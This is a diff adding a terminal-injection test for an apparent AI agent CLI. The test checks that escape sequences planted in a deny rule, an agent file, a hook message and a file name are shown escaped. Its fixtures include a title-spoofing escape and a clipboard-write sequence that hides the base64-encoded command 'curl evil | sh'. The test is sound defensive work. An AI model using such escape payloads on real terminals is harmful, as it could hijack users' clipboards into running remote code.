@@ -164,4 +164,69 @@ describe('terminal injection', () => {
     expect(run.stderr).not.toMatch(/^fake line/m);
     expect(run.stderr).toMatch(/^bash: .*\\nfake line.*no Unix sockets$/m);
   });
+
+  it("the REPL's commands show what a repository, a model or a hook wrote: /permissions, /agents, /rewind, notices", async () => {
+    const dir = await tempDir('agent-cli-inject-commands-');
+    cleanups.push(dir.dispose);
+    const workspace = join(dir.path, 'repo');
+    const home = join(dir.path, 'home');
+    await mkdir(join(workspace, '.agent', 'agents'), { recursive: true });
+    await mkdir(join(workspace, '.git'));
+    await mkdir(home);
+    // Untrusted, these still apply: a deny rule and an agent file.
+    await writeFile(
+      join(workspace, '.agent', 'settings.json'),
+      JSON.stringify({ permissions: { deny: [`bash(rm ${title}${clipboard}*)`] } }),
+    );
+    await writeFile(
+      join(workspace, '.agent', 'agents', 'helper.md'),
+      `---\nname: helper\ndescription: "Helps.\\e]2;PWNED-TITLE\\a\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a"\n---\nHelp.\n`,
+    );
+    // The user's own Stop hook, whose reason repeats what the repository's code printed.
+    await writeFile(
+      join(home, 'settings.json'),
+      JSON.stringify({
+        hooks: {
+          Stop: [
+            {
+              hooks: [
+                {
+                  type: 'command',
+                  command: `test -f stopped && exit 0; touch stopped; printf 'lint: %b' '\\033]2;PWNED-TITLE\\007' >&2; exit 2`,
+                },
+              ],
+            },
+          ],
+        },
+      }),
+    );
+    const script = await writeScript(dir.path, [
+      // A file whose name holds escapes: /rewind names the files it puts back.
+      {
+        toolCalls: [{ name: 'write_file', arguments: { path: `made${title}.txt`, content: 'x' } }],
+      },
+      { text: 'first done' },
+      { text: 'after the hook' },
+    ]);
+    const session = await start(
+      ['--scripted', script, '--cwd', workspace, '--mode', 'workspace-write'],
+      { cwd: dir.path, home },
+    );
+    await session.waitFor('>');
+    session.tmux.type('go');
+    session.tmux.press('Enter');
+    await session.waitFor('after the hook');
+    expect(session.tmux.capture()).toContain('lint: \\x1b]2;PWNED-TITLE');
+    session.tmux.type('/permissions');
+    session.tmux.press('Enter');
+    await session.waitFor('deny: bash(rm \\x1b]2;PWNED-TITLE');
+    session.tmux.type('/agents');
+    session.tmux.press('Enter');
+    await session.waitFor('helper — Helps.\\x1b]2;PWNED-TITLE');
+    session.tmux.type('/rewind 1 code');
+    session.tmux.press('Enter');
+    await session.waitFor('removed made\\x1b]2;PWNED-TITLE');
+    expect(session.paneTitle()).not.toContain('PWNED');
+    expect(session.buffers()).toBe('');
+  });
 });
